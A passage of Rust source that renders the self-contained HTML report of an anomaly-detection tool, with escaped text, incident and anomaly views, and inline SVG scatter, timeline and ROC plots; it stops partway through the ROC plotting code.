//! The HTML report: one self-contained page (no network access when opened)
//! that shows a run for people who would rather look than read.
//!
//! It is built from a [`Page`], which the commands fill from the same stream
//! of scored records the terminal and JSON printers consume (see
//! [`super::Sink`]) plus the per-input sketches of the summary. This module
//! only renders: it reads, scores and projects nothing.

pub mod builder;

/// Everything one report shows. Text fields hold raw, untrusted text (log
/// lines, file names): the renderer escapes all of it.
#[derive(Clone, Debug, Default, serde::Serialize)]
pub struct Page {
    /// What produced it, e.g. "honk diff".
    pub title: String,
    /// honk's version.
    pub version: String,
    /// When the report was made, as text (UTC).
    pub generated: String,
    /// Summary rows, in order: (label, value), e.g. ("threshold", "0.3").
    pub summary: Vec<(String, String)>,
    /// The inputs scored: name, format detected, lines read, records, unique keys.
    pub inputs: Vec<PageInput>,
    /// The anomalies, highest score first, at most [`MAX_ANOMALIES`].
    pub anomalies: Vec<PageAnomaly>,
    /// How many anomalies there were in all (more than `anomalies.len()` when capped).
    pub anomalies_total: u64,
    /// The incidents (groups of anomalies that are one event), in input order,
    /// at most [`MAX_INCIDENTS`].
    pub incidents: Vec<PageIncident>,
    /// How many incidents there were in all.
    pub incidents_total: u64,
    /// The threshold anomalies are above.
    pub threshold: f64,
    /// The 2-D map of baseline and target vectors, when it could be computed.
    pub map: Option<Map>,
    /// One score timeline per target input.
    pub timelines: Vec<Timeline>,
    /// Per target input, its threads with anomalies (syscall traces).
    pub threads: Vec<PageThread>,
    /// System calls the target made that the baseline never did, with counts.
    pub new_syscalls: Vec<(String, u64)>,
    /// With `honk eval`: the ROC curve and score distributions.
    pub eval: Option<EvalPlots>,
}

/// Anomalies listed at most; the page says how many more there were.
pub const MAX_ANOMALIES: usize = 2_000;

/// Incidents listed at most; the page says how many more there were.
pub const MAX_INCIDENTS: usize = 500;

/// Records listed under one incident, at most (its highest-ranked, in line order).
const INCIDENT_RECORDS: usize = 20;

/// A group of anomalies that are one event (see [`super::incident`]).
#[derive(Clone, Debug, Default, serde::Serialize)]
pub struct PageIncident {
    pub id: u64,
    pub source: String,
    pub line: u64,
    pub last_line: u64,
    pub records: u64,
    pub score: f64,
    pub threads: Vec<u32>,
    /// What is new in it: tokens the baseline never had.
    pub new: Vec<String>,
}

#[derive(Clone, Debug, Default, serde::Serialize)]
pub struct PageInput {
    pub name: String,
    pub format: String,
    pub lines: u64,
    pub records: u64,
}

#[derive(Clone, Debug, Default, serde::Serialize)]
pub struct PageAnomaly {
    /// Position in file order over all anomalies (0-based), for the order toggle.
    pub order: u64,
    pub source: String,
    pub line: u64,
    pub score: f64,
    /// The record's text; for a window, its events one per line.
    pub text: String,
    /// The process or thread, when the format names one (for the filter).
    pub process: Option<String>,
    /// Context before and after: (line, text).
    pub before: Vec<(u64, String)>,
    pub after: Vec<(u64, String)>,
    /// The nearest baseline record: (source, line, text).
    pub nearest: Option<(String, u64, String)>,
    /// For a window: the line of its last event.
    pub window_last_line: Option<u64>,
    /// The incident it belongs to, and its rank there (1: tells most).
    pub incident: Option<(u64, u32)>,
}

/// Points of the vector map, in projected coordinates.
#[derive(Clone, Debug, Default, serde::Serialize)]
pub struct Map {
    pub baseline: Vec<MapPoint>,
    pub target: Vec<MapPoint>,
    /// Share of the baseline's variance along each axis.
    pub explained: [f64; 2],
    /// How many points each side had before sampling (the page says if it sampled).
    pub baseline_total: u64,
    pub target_total: u64,
}

#[derive(Clone, Debug, Default, serde::Serialize)]
pub struct MapPoint {
    pub x: f64,
    pub y: f64,
    /// What hovering shows: the line (truncated by the renderer).
    pub label: String,
    pub score: f64,
    pub anomaly: bool,
}

/// A target's scores over its lines, in bins.
#[derive(Clone, Debug, Default, serde::Serialize)]
pub struct Timeline {
    pub source: String,
    pub bins: Vec<TimelineBin>,
}

#[derive(Clone, Debug, Default, serde::Serialize)]
pub struct TimelineBin {
    pub first_line: u64,
    pub last_line: u64,
    pub max_score: f64,
    pub records: u64,
    pub anomalies: u64,
}

#[derive(Clone, Debug, Default, serde::Serialize)]
pub struct PageThread {
    pub source: String,
    pub thread: u32,
    pub records: u64,
    pub anomalies: u64,
}

#[derive(Clone, Debug, Default, serde::Serialize)]
pub struct EvalPlots {
    pub auc: f64,
    /// The ROC curve: (false-alarm rate, detection rate), from (0,0) to (1,1).
    pub roc: Vec<(f64, f64)>,
    /// Item scores by label.
    pub normal_scores: Vec<f64>,
    pub attack_scores: Vec<f64>,
    /// The threshold the confusion counts were taken at.
    pub threshold: f64,
}

use std::collections::BTreeSet;
use std::fmt::{self, Write as _};

use minijinja::{AutoEscape, Environment, UndefinedBehavior};
use serde::Serialize;

use super::human::escape as neutralise;
use super::thousands;

/// The page's template: markup, style and script. Everything it prints from a
/// [`Page`] goes through minijinja's HTML escaping; the plots are SVG built
/// here, escaped by [`push_escaped`].
const TEMPLATE: &str = include_str!("report.html.j2");

/// Characters of a line shown when hovering over a point or bar.
pub const HOVER_CHARS: usize = 300;
/// Characters of an anomaly's text (and its nearest baseline record) shown in the list.
pub const TEXT_CHARS: usize = 4_000;
/// Characters of a context line shown in the list.
pub const CONTEXT_CHARS: usize = 1_000;
/// Characters of a file or process name.
const NAME_CHARS: usize = 1_000;
/// Processes offered as suggestions by the process filter.
const MAX_PROCESSES: usize = 500;

// The Okabe–Ito palette, which people with the common colour-vision deficiencies
// can tell apart; markers differ in shape too.
const BASELINE: &str = "#0072B2";
const TARGET: &str = "#E69F00";
const ANOMALY: &str = "#D55E00";

/// Why a page could not be rendered. Neither should happen with any [`Page`]:
/// they would be bugs in the template or the plots.
#[derive(Debug, thiserror::Error)]
pub enum HtmlError {
    #[error("the HTML report template failed: {0}")]
    Template(#[from] minijinja::Error),
    #[error("could not write a plot of the HTML report")]
    Format(#[from] fmt::Error),
}

/// Renders `page` as one self-contained HTML5 document: inline style, inline
/// SVG plots and a little script, nothing loaded from the network. All text of
/// the page is escaped, and the output grows with the size of the page only.
pub fn render(page: &Page) -> Result<String, HtmlError> {
    let view = View::new(page)?;
    let mut env = Environment::new();
    env.set_auto_escape_callback(|_| AutoEscape::Html);
    env.set_undefined_behavior(UndefinedBehavior::Strict);
    env.set_trim_blocks(true);
    env.set_lstrip_blocks(true);
    env.add_template("report.html", TEMPLATE)?;
    Ok(env.get_template("report.html")?.render(&view)?)
}

/// What the template prints: the page's text made safe to show (cut to size,
/// control characters escaped; HTML escaping is the template's) and its
/// numbers formatted, with the plots as finished SVG.
#[derive(Serialize)]
struct View {
    title: String,
    version: String,
    generated: String,
    summary: Vec<(String, String)>,
    inputs: Vec<InputView>,
    threshold: String,
    anomalies: Vec<AnomalyView>,
    incidents: Vec<IncidentView>,
    incidents_shown: String,
    incidents_total: String,
    shown: String,
    anomalies_total: String,
    capped: bool,
    processes: Vec<String>,
    map: Option<Figure>,
    timelines: Vec<Figure>,
    threads: Vec<ThreadView>,
    new_syscalls: Vec<(String, String)>,
    eval: Option<EvalView>,
}

#[derive(Serialize)]
struct InputView {
    name: String,
    format: String,
    lines: String,
    records: String,
}

#[derive(Serialize)]
struct AnomalyView {
    /// Position in score order (the list's default order).
    rank: usize,
    /// Position in file order.
    order: u64,
    score: String,
    /// The score for the filter, with more digits.
    score_data: String,
    source: String,
    line: u64,
    /// `line`, or `first–last` for a window.
    lines: String,
    window: bool,
    events: usize,
    process: Option<String>,
    /// The record as (line, text), or a window's events one per row.
    rows: Rows,
    before: Vec<(u64, String)>,
    after: Vec<(u64, String)>,
    /// (source, line, text): the nearest baseline record, for a window its events one per row.
    nearest: Option<(String, u64, Rows)>,
}

/// Lines of text as (line number, text); the number may be empty.
type Rows = Vec<(String, String)>;

#[derive(Serialize)]
struct IncidentView {
    id: u64,
    score: String,
    source: String,
    /// `line`, or `first–last`.
    lines: String,
    records: String,
    threads: String,
    new: String,
    /// Its records that the page holds, as (line, score, text), in line order.
    members: Vec<(u64, String, String)>,
    /// How many of its records are not listed.
    unlisted: String,
}

#[derive(Serialize)]
struct Figure {
    svg: String,
    caption: String,
}

#[derive(Serialize)]
struct ThreadView {
    source: String,
    thread: u32,
    records: String,
    anomalies: String,
}

#[derive(Serialize)]
struct EvalView {
    roc_svg: String,
    hist_svg: String,
    auc: String,
    threshold: String,
    counts: String,
}

impl View {
    fn new(page: &Page) -> Result<View, fmt::Error> {
        let mut ranked: Vec<&PageAnomaly> = page.anomalies.iter().collect();
        // Stable: the caller's order breaks ties.
        ranked.sort_by(|a, b| finite(b.score).total_cmp(&finite(a.score)));
        let anomalies: Vec<AnomalyView> = ranked
            .iter()
            .enumerate()
            .map(|(rank, a)| anomaly_view(rank, a))
            .collect();
        let processes: BTreeSet<String> = page
            .anomalies
            .iter()
            .filter_map(|a| a.process.as_deref())
            .map(|p| one_line(p, HOVER_CHARS))
            .collect();
        let total = page.anomalies_total.max(page.anomalies.len() as u64);
        let incidents: Vec<IncidentView> = page.incidents.iter().map(|i| incident_view(i, page)).collect();
        let title = if page.title.trim().is_empty() {
            "honk report".to_owned()
        } else {
            one_line(&page.title, NAME_CHARS)
        };
        Ok(View {
            title,
            version: one_line(&page.version, NAME_CHARS),
            generated: one_line(&page.generated, NAME_CHARS),
            summary: page
                .summary
                .iter()
                .map(|(k, v)| (one_line(k, NAME_CHARS), shown(v, TEXT_CHARS)))
                .collect(),
            inputs: page
                .inputs
                .iter()
                .map(|i| InputView {
                    name: one_line(&i.name, NAME_CHARS),
                    format: one_line(&i.format, NAME_CHARS),
                    lines: thousands(i.lines),
                    records: thousands(i.records),
                })
                .collect(),
            threshold: threshold_text(page.threshold),
            shown: thousands(anomalies.len() as u64),
            anomalies_total: thousands(total),
            incidents_shown: thousands(incidents.len() as u64),
            incidents_total: thousands(page.incidents_total.max(incidents.len() as u64)),
            incidents,
            capped: total > anomalies.len() as u64,
            anomalies,
            processes: processes.into_iter().take(MAX_PROCESSES).collect(),
            map: page.map.as_ref().map(map_figure).transpose()?,
            timelines: page
                .timelines
                .iter()
                .enumerate()
                .map(|(i, t)| timeline_figure(i, t, page.threshold))
                .collect::<Result<_, _>>()?,
            threads: page
                .threads
                .iter()
                .map(|t| ThreadView {
                    source: one_line(&t.source, NAME_CHARS),
                    thread: t.thread,
                    records: thousands(t.records),
                    anomalies: thousands(t.anomalies),
                })
                .collect(),
            new_syscalls: page
                .new_syscalls
                .iter()
                .map(|(name, count)| (one_line(name, NAME_CHARS), thousands(*count)))
                .collect(),
            eval: page.eval.as_ref().map(eval_view).transpose()?,
        })
    }
}

fn incident_view(i: &PageIncident, page: &Page) -> IncidentView {
    let mut members: Vec<&PageAnomaly> = page
        .anomalies
        .iter()
        .filter(|a| a.incident.is_some_and(|(id, _)| id == i.id))
        .collect();
    members.sort_by_key(|a| a.incident.map_or(u32::MAX, |(_, rank)| rank));
    members.truncate(INCIDENT_RECORDS);
    members.sort_by_key(|a| a.line);
    let lines = if i.last_line > i.line {
        format!("{}–{}", i.line, i.last_line)
    } else {
        i.line.to_string()
    };
    IncidentView {
        id: i.id,
        score: score_text(i.score),
        source: one_line(&i.source, NAME_CHARS),
        lines,
        records: thousands(i.records),
        threads: i.threads.iter().map(u32::to_string).collect::<Vec<_>>().join(" "),
        new: shown(&i.new.join(" "), TEXT_CHARS),
        unlisted: thousands(i.records.saturating_sub(members.len() as u64)),
        members: members
            .iter()
            .map(|a| (a.line, score_text(a.score), shown(&a.text, TEXT_CHARS)))
            .collect(),
    }
}

fn anomaly_view(rank: usize, a: &PageAnomaly) -> AnomalyView {
    let window = a.window_last_line.is_some();
    let lines = match a.window_last_line {
        Some(last) if last != a.line => format!("{}–{last}", a.line),
        _ => a.line.to_string(),
    };
    let context = |c: &Vec<(u64, String)>| c.iter().map(|(l, t)| (*l, shown(t, CONTEXT_CHARS))).collect();
    AnomalyView {
        rank,
        order: a.order,
        score: score_text(a.score),
        score_data: format!("{:.4}", finite(a.score)),
        source: one_line(&a.source, NAME_CHARS),
        line: a.line,
        lines,
        window,
        events: a.text.lines().count(),
        process: a.process.as_deref().map(|p| one_line(p, HOVER_CHARS)),
        rows: if window {
            event_rows(&a.text)
        } else {
            vec![(a.line.to_string(), shown(&a.text, TEXT_CHARS))]
        },
        before: context(&a.before),
        after: context(&a.after),
        nearest: a.nearest.as_ref().map(|(source, line, text)| {
            let rows = if window {
                event_rows(text)
            } else {
                vec![(String::new(), shown(text, TEXT_CHARS))]
            };
            (one_line(source, NAME_CHARS), *line, rows)
        }),
    }
}

/// A window's text, `LINE<TAB>event` per line, as (line, event) rows; a line
/// without a number keeps its whole text.
fn event_rows(text: &str) -> Rows {
    shown(text, TEXT_CHARS)
        .split('\n')
        .map(|row| match row.split_once('\t') {
            Some((line, event)) if !line.is_empty() && line.bytes().all(|b| b.is_ascii_digit()) => {
                (line.to_owned(), event.to_owned())
            }
            _ => (String::new(), row.to_owned()),
        })
        .collect()
}

// ---------------------------------------------------------------- text

/// `text` cut to `max` characters (an ellipsis marks the cut).
fn cut(text: &str, max: usize) -> (&str, bool) {
    match text.char_indices().nth(max) {
        Some((i, _)) => (&text[..i], true),
        None => (text, false),
    }
}

/// Text made safe to show, keeping its lines: at most `max` characters,
/// control characters and bidirectional overrides escaped as the terminal
/// printer does, a carriage return ending a line dropped.
fn shown(text: &str, max: usize) -> String {
    let (head, was_cut) = cut(text, max);
    let mut out = String::with_capacity(head.len() + 4);
    for (i, line) in head.split('\n').enumerate() {
        if i > 0 {
            out.push('\n');
        }
        out.push_str(&neutralise(line.strip_suffix('\r').unwrap_or(line)));
    }
    if was_cut {
        out.push('…');
    }
    out
}

/// Like [`shown`] for a name: line breaks are escaped too.
fn one_line(text: &str, max: usize) -> String {
    let (head, was_cut) = cut(text, max);
    let mut out = neutralise(head).into_owned();
    if was_cut {
        out.push('…');
    }
    out
}

/// Appends `text` escaped for SVG/HTML text and attribute values. `/` is
/// escaped as minijinja does, so that no URL appears in the page as such.
fn push_escaped(out: &mut String, text: &str) {
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#x27;"),
            '/' => out.push_str("&#x2f;"),
            c => out.push(c),
        }
    }
}

/// A label for hovering: cut short, made safe, then escaped.
fn push_label(out: &mut String, text: &str) {
    push_escaped(out, &shown(text, HOVER_CHARS));
}

/// `x`, or 0 when it is not a number or infinite.
fn finite(x: f64) -> f64 {
    if x.is_finite() {
        x
    } else {
        0.0
    }
}

fn score_text(score: f64) -> String {
    format!("{:.2}", finite(score))
}

/// A threshold: at least two decimals, more when it has them (0.30, 0.325).
fn threshold_text(threshold: f64) -> String {
    let mut out = format!("{:.4}", finite(threshold));
    while out.ends_with('0') && out.len() > out.find('.').map_or(0, |dot| dot + 3) {
        out.pop();
    }
    out
}

/// A share as a percentage: 43%, 4.2%.
fn percent(share: f64) -> String {
    let p = finite(share) * 100.0;
    if p.abs() < 10.0 {
        format!("{p:.1}%")
    } else {
        format!("{p:.0}%")
    }
}

/// A coordinate for SVG: one decimal, never NaN or infinite.
struct N(f64);

impl fmt::Display for N {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let x = finite(self.0);
        // Avoid "-0.0".
        let x = if x.abs() < 0.05 { 0.0 } else { x };
        write!(f, "{x:.1}")
    }
}

// ---------------------------------------------------------------- plots

/// Opens an accessible SVG plot: `role="img"`, a title and a description.
fn open_svg(out: &mut String, id: &str, width: f64, height: f64, title: &str, desc: &str) -> fmt::Result {
    write!(
        out,
        "<svg class=\"plot\" id=\"{id}-svg\" role=\"img\" aria-labelledby=\"{id}-title\" \
         aria-describedby=\"{id}-desc\" \
         viewBox=\"0 0 {w} {h}\" width=\"{w}\" height=\"{h}\"><title id=\"{id}-title\">",
        w = N(width),
        h = N(height)
    )?;
    push_escaped(out, title);
    write!(out, "</title><desc id=\"{id}-desc\">")?;
    push_escaped(out, desc);
    out.push_str("</desc>");
    Ok(())
}

/// A text label; `anchor` is start, middle or end.
fn text(out: &mut String, x: f64, y: f64, anchor: &str, label: &str) -> fmt::Result {
    write!(out, "<text x=\"{}\" y=\"{}\" text-anchor=\"{anchor}\">", N(x), N(y))?;
    push_escaped(out, label);
    out.push_str("</text>");
    Ok(())
}

/// Smallest and largest of the finite values, or `None`.
fn bounds(values: impl Iterator<Item = f64>) -> Option<(f64, f64)> {
    values.filter(|v| v.is_finite()).fold(None, |b, v| match b {
        None => Some((v, v)),
        Some((lo, hi)) => Some((lo.min(v), hi.max(v))),
    })
}

/// Bounds widened by `pad` of their span on each side, and never empty.
fn padded((lo, hi): (f64, f64), pad: f64) -> (f64, f64) {
    let span = hi - lo;
    if span.is_finite() && span > 1e-12 {
        (lo - span * pad, hi + span * pad)
    } else {
        (lo - 1.0, hi + 1.0)
    }
}

fn map_figure(map: &Map) -> Result<Figure, fmt::Error> {
    const W: f64 = 640.0;
    const H: f64 = 420.0;
    const ML: f64 = 56.0;
    const MR: f64 = 16.0;
    const MT: f64 = 40.0;
    const MB: f64 = 52.0;
    let (pw, ph) = (W - ML - MR, H - MT - MB);
    let all = || {
        map.baseline
            .iter()
            .chain(&map.target)
            .filter(|p| p.x.is_finite() && p.y.is_finite())
    };
    let (x0, x1) = padded(bounds(all().map(|p| p.x)).unwrap_or((0.0, 0.0)), 0.04);
    let (y0, y1) = padded(bounds(all().map(|p| p.y)).unwrap_or((0.0, 0.0)), 0.04);
    let sx = |x: f64| ML + (x - x0) / (x1 - x0) * pw;
    let sy = |y: f64| MT + ph - (y - y0) / (y1 - y0) * ph;
    let visible = |p: &&MapPoint| p.x.is_finite() && p.y.is_finite();
    let baseline: Vec<&MapPoint> = map.baseline.iter().filter(visible).filter(|p| !p.anomaly).collect();
    let target: Vec<&MapPoint> = map.target.iter().filter(visible).filter(|p| !p.anomaly).collect();
    let anomalies: Vec<(&str, &MapPoint)> = map
        .baseline
        .iter()
        .filter(visible)
        .filter(|p| p.anomaly)
        .map(|p| ("baseline", p))
        .chain(
            map.target
                .iter()
                .filter(visible)
                .filter(|p| p.anomaly)
                .map(|p| ("target", p)),
        )
        .collect();

    let desc = format!(
        "Scatter plot of records on the two main directions of variation of the baseline. Baseline records are blue \
         rings ({}), target records orange squares ({}), anomalies vermillion diamonds drawn on top ({}).",
        thousands(baseline.len() as u64),
        thousands(target.len() as u64),
        thousands(anomalies.len() as u64)
    );
    let mut s = String::with_capacity(256 + 96 * (baseline.len() + target.len() + anomalies.len()));
    open_svg(&mut s, "map", W, H, "Map of baseline and target records", &desc)?;

    // Frame and the zero lines, when they are inside.
    write!(
        s,
        "<rect class=\"axis\" x=\"{}\" y=\"{}\" width=\"{}\" height=\"{}\"/>",
        N(ML),
        N(MT),
        N(pw),
        N(ph)
    )?;
    if x0 < 0.0 && x1 > 0.0 {
        write!(
            s,
            "<path class=\"grid\" d=\"M{},{}V{}\"/>",
            N(sx(0.0)),
            N(MT),
            N(MT + ph)
        )?;
    }
    if y0 < 0.0 && y1 > 0.0 {
        write!(
            s,
            "<path class=\"grid\" d=\"M{},{}H{}\"/>",
            N(ML),
            N(sy(0.0)),
            N(ML + pw)
        )?;
    }
    let axis_label = |axis: usize| match map.explained[axis - 1] {
        share if share.is_finite() => format!("component {axis} ({} of the baseline's variance)", percent(share)),
        _ => format!("component {axis}"),
    };
    let (x_label, y_label) = (axis_label(1), axis_label(2));
    text(&mut s, ML + pw / 2.0, H - 16.0, "middle", &x_label)?;
    write!(s, "<g transform=\"translate(18,{}) rotate(-90)\">", N(MT + ph / 2.0))?;
    text(&mut s, 0.0, 0.0, "middle", &y_label)?;
    s.push_str("</g>");

    // Legend, above the plot.
    write!(
        s,
        "<g aria-hidden=\"true\"><circle cx=\"{}\" cy=\"20\" r=\"4\" fill=\"none\" stroke=\"{BASELINE}\" \
         stroke-width=\"1.6\"/>",
        N(ML + 6.0)
    )?;
    text(&mut s, ML + 16.0, 24.0, "start", "baseline")?;
    write!(
        s,
        "<rect x=\"{}\" y=\"16\" width=\"8\" height=\"8\" fill=\"{TARGET}\"/>",
        N(ML + 122.0)
    )?;
    text(&mut s, ML + 136.0, 24.0, "start", "target")?;
    write!(
        s,
        "<path d=\"M{},14l6,6-6,6-6-6z\" fill=\"{ANOMALY}\" stroke=\"#000\" stroke-width=\"0.8\"/>",
        N(ML + 232.0)
    )?;
    text(&mut s, ML + 244.0, 24.0, "start", "anomaly")?;
    s.push_str("</g>");

    let point_title = |s: &mut String, side: &str, p: &MapPoint| -> fmt::Result {
        write!(s, "<title>{side}, score {}: ", score_text(p.score))?;
        push_label(s, &p.label);
        s.push_str("</title>");
        Ok(())
    };
    // Target squares first, half transparent; baseline rings over them, so
    // that where the two overlap (the usual case) both stay visible.
    write!(s, "<g fill=\"{TARGET}\" fill-opacity=\"0.6\">")?;
    for p in &target {
        write!(
            s,
            "<rect class=\"pt\" x=\"{}\" y=\"{}\" width=\"5\" height=\"5\">",
            N(sx(p.x) - 2.5),
            N(sy(p.y) - 2.5)
        )?;
        point_title(&mut s, "target", p)?;
        s.push_str("</rect>");
    }
    write!(
        s,
        "</g><g fill=\"none\" stroke=\"{BASELINE}\" stroke-width=\"1.3\" stroke-opacity=\"0.8\">"
    )?;
    for p in &baseline {
        write!(
            s,
            "<circle class=\"pt\" cx=\"{}\" cy=\"{}\" r=\"3.6\">",
            N(sx(p.x)),
            N(sy(p.y))
        )?;
        point_title(&mut s, "baseline", p)?;
        s.push_str("</circle>");
    }
    write!(s, "</g><g fill=\"{ANOMALY}\" stroke=\"#000\" stroke-width=\"0.8\">")?;
    for (side, p) in &anomalies {
        write!(
            s,
            "<path class=\"pt\" d=\"M{},{}l6,6-6,6-6-6z\">",
            N(sx(p.x)),
            N(sy(p.y) - 6.0)
        )?;
        point_title(&mut s, &format!("anomaly ({side})"), p)?;
        s.push_str("</path>");
    }
    s.push_str("</g></svg>");

    let (b, bt) = (
        map.baseline.len() as u64,
        map.baseline_total.max(map.baseline.len() as u64),
    );
    let (t, tt) = (map.target.len() as u64, map.target_total.max(map.target.len() as u64));
    let mut caption = if b < bt || t < tt {
        format!(
            "A sample: {} of {} baseline points and {} of {} target points are drawn.",
            thousands(b),
            thousands(bt),
            thousands(t),
            thousands(tt)
        )
    } else {
        format!(
            "All {} baseline and {} target points are drawn.",
            thousands(b),
            thousands(t)
        )
    };
    let _ = write!(
        caption,
        " {} of them are anomalies (vermillion diamonds).",
        thousands(anomalies.len() as u64)
    );
    Ok(Figure { svg: s, caption })
}

fn timeline_figure(index: usize, timeline: &Timeline, threshold: f64) -> Result<Figure, fmt::Error> {
    const W: f64 = 960.0;
    const H: f64 = 210.0;
    const ML: f64 = 48.0;
    const MR: f64 = 72.0;
    const MT: f64 = 14.0;
    const MB: f64 = 56.0;
    let (pw, ph) = (W - ML - MR, H - MT - MB);
    let bins = &timeline.bins;
    let source = one_line(&timeline.source, NAME_CHARS);
    let first = bins.first().map_or(0, |b| b.first_line);
    let last = bins.last().map_or(0, |b| b.last_line);
    let highest = bins.iter().map(|b| finite(b.max_score)).fold(0.0, f64::max);
    let flagged = bins.iter().filter(|b| b.anomalies > 0).count();
    let anomalies: u64 = bins.iter().map(|b| b.anomalies).sum();
    let desc = format!(
        "Bar chart of the highest score per group of lines, {} groups from line {} to line {}. The highest score is \
         {}; {} groups hold anomalies ({} anomalies in all), drawn in vermillion with a triangle below the axis.",
        thousands(bins.len() as u64),
        thousands(first),
        thousands(last),
        score_text(highest),
        thousands(flagged as u64),
        thousands(anomalies),
    );
    let mut s = String::with_capacity(1024 + 160 * bins.len());
    open_svg(
        &mut s,
        &format!("timeline-{index}"),
        W,
        H,
        &format!("Scores along {source}"),
        &desc,
    )?;
    let sy = |score: f64| MT + ph - finite(score).clamp(0.0, 1.0) * ph;
    for tick in [0.0, 0.5, 1.0] {
        write!(
            s,
            "<path class=\"grid\" d=\"M{},{}H{}\"/>",
            N(ML),
            N(sy(tick)),
            N(ML + pw)
        )?;
        text(&mut s, ML - 6.0, sy(tick) + 4.0, "end", &format!("{tick:.1}"))?;
    }
    write!(s, "<g transform=\"translate(14,{}) rotate(-90)\">", N(MT + ph / 2.0))?;
    text(&mut s, 0.0, 0.0, "middle", "max score")?;
    s.push_str("</g>");

    let bw = if bins.is_empty() { pw } else { pw / bins.len() as f64 };
    let (mut calm, mut hot, mut marks) = (String::new(), String::new(), String::new());
    for (i, b) in bins.iter().enumerate() {
        let x = ML + i as f64 * bw;
        let top = sy(b.max_score);
        let path = if b.anomalies > 0 { &mut hot } else { &mut calm };
        write!(path, "M{},{}h{}V{}H{}z", N(x), N(top), N(bw), N(MT + ph), N(x))?;
        if b.anomalies > 0 {
            write!(marks, "M{},{}l4,7h-8z", N(x + bw / 2.0), N(MT + ph + 3.0))?;
        }
    }
    for (d, style) in [
        (&calm, format!("fill=\"{TARGET}\"")),
        (&hot, format!("fill=\"{ANOMALY}\"")),
        (
            &marks,
            format!("fill=\"{ANOMALY}\" stroke=\"#000\" stroke-width=\"0.5\""),
        ),
    ] {
        if !d.is_empty() {
            write!(s, "<path d=\"{d}\" {style}/>")?;
        }
    }
    write!(
        s,
        "<path class=\"axis\" d=\"M{},{}V{}H{}\"/>",
        N(ML),
        N(MT),
        N(MT + ph),
        N(ML + pw)
    )?;
    if threshold.is_finite() && (0.0..=1.0).contains(&threshold) {
        let y = sy(threshold);
        write!(
            s,
            "<path d=\"M{},{}H{}\" stroke=\"#222\" stroke-width=\"1.5\" stroke-dasharray=\"6 4\" \
             pointer-events=\"none\"/>",
            N(ML),
            N(y),
            N(ML + pw)
        )?;
        // In the right margin, where no bar is.
        text(&mut s, ML + pw + 6.0, y - 2.0, "start", "threshold")?;
        text(&mut s, ML + pw + 6.0, y + 12.0, "start", &threshold_text(threshold))?;
    }
    text(&mut s, ML, H - 20.0, "start", &format!("line {}", thousands(first)))?;
    text(&mut s, ML + pw, H - 20.0, "end", &format!("line {}", thousands(last)))?;
    text(&mut s, ML + pw / 2.0, H - 6.0, "middle", "line number")?;

    // Hover targets, the whole height of each bin.
    for (i, b) in bins.iter().enumerate() {
        write!(
            s,
            "<rect class=\"hit\" x=\"{}\" y=\"{}\" width=\"{}\" height=\"{}\"><title>lines {}–{}: max score {}, {} \
             records, {} anomalies</title></rect>",
            N(ML + i as f64 * bw),
            N(MT),
            N(bw),
            N(ph),
            b.first_line,
            b.last_line,
            score_text(b.max_score),
            thousands(b.records),
            thousands(b.anomalies)
        )?;
    }
    s.push_str("</svg>");
    let caption = if bins.is_empty() {
        format!("{source}: no records.")
    } else {
        format!(
            "{source}: lines {}–{} in {} groups; {} groups hold anomalies.",
            thousands(first),
            thousands(last),
            thousands(bins.len() as u64),
            thousands(flagged as u64)
        )
    };
    Ok(Figure { svg: s, caption })
}

fn eval_view(eval: &EvalPlots) -> Result<EvalView, fmt::Error> {
    let auc = if eval.auc.is_finite() {
        format!("{:.3}", eval.auc)
    } else {
        "unknown".to_owned()
    };
    Ok(EvalView {
        roc_svg: roc_svg(eval, &auc)?,
        hist_svg: histogram_svg(eval)?,
        counts: format!(
            "{} normal and {} attack items were scored.",
            thousands(eval.normal_scores.len() as u64),
            thousands(eval.attack_scores.len() as u64)
        ),
        auc,
        threshold: threshold_text(eval.threshold),
    })
}

fn roc_svg(eval: &EvalPlots, auc: &str) -> Result<String, fmt::Error> {
    const ML: f64 = 56.0;
    const MT: f64 = 16.0;
    const P: f64 = 330.0;
    const MB: f64 = 52.0;
    const MR: f64 = 24.0;
    let (w, h) = (ML + P + MR, MT + P + MB);
    let sx = |x: f64| ML + finite(x).clamp(0.0, 1.0) * P;
    let sy = |y: f64| MT + P - finite(y).clamp(0.0, 1.0) * P;
    let points: Vec<(f64, f64)> = eval
        .roc
        .iter()
        .copied()
        .filter(|(x, y)| x.is_finite() && y.is_finite())
        .collect();
    let mut s = String::with_capacity(2048 + 24 * points.len());
    open_svg(
        &mut s,
        "roc",
        w,
        h,
        &format!("ROC curve, AUC {auc}"),
        &format!(
            "Detection rate against false-alarm rate over all thresholds ({} points), with the diagonal of guessing \
             dashed. The area under the curve is {auc}.",
            points.len()
        ),
    )?;
    for tick in [0.0, 0.25, 0.5, 0.75, 1.0] {
        write!(
            s,
            "<path class=\"grid\" d=\"M{},{}H{}M{},{}V{}\"/>",
            N(ML),
            N(sy(tick)),
            N(ML + P),
            N(sx(tick)),
            N(MT),
            N(MT + P)
        )?;
        text(&mut s, ML - 6.0, sy(tick) + 4.0, "end", &format!("{tick}"))?;
        text(&mut s, sx(tick), MT + P + 16.0, "middle", &format!("{tick}"))?;
    }
    write!(
        s,
        "<rect class=\"axis\" x=\"{}\" y=\"{}\" width=\"{}\" height=\"{}\"/>",
        N(ML),
        N(MT),
        N(P),
        N(P)
    )?;
    write!(
        s,
        "<path d=\"M{},{}L{},{}\" stroke=\"#555\" stroke-width=\"1.2\" stroke-dasharray=\"5 4\" fill=\"none\"/>",
        N(sx(0.0)),
        N(sy(0.0)),
        N(sx(1.0)),
        N(sy(1.0))
    )?;
    text(
        &mut s,
        ML + P / 2.0,
        MT + P + 38.0,
        "middle",
        "false-alarm rate (normal items flagged)",
    )?;
    write!(s, "<g transform=\"translate(16,{}) rotate(-90)\">", N(MT + P / 2.0))?;
    text(&mut s, 0.0, 0.0, "middle", "detection rate (attack items flagged)")?;
    s.push_str("</g>");
    if !points.is_empty() {
        s.push_str("<polyline fill=\"none\" stroke=\"");
        s.push_str(BASELINE);
        s.push_str("\" stroke-width=\"2.5\" stroke-linejoin=\"round\" points=\"");
        for (i, (x, y)) in points.iter().enumerate() {
            if i > 0 {
                s.push(' ');
            }
            write!(s, "{},{}", N(sx(*x)), N(sy(*y)))?;
        }
        s.push_str("\"/>");
        // Hover targets on at most a few hundred of the points.
        let step = points.len().div_ceil(300).max(1);
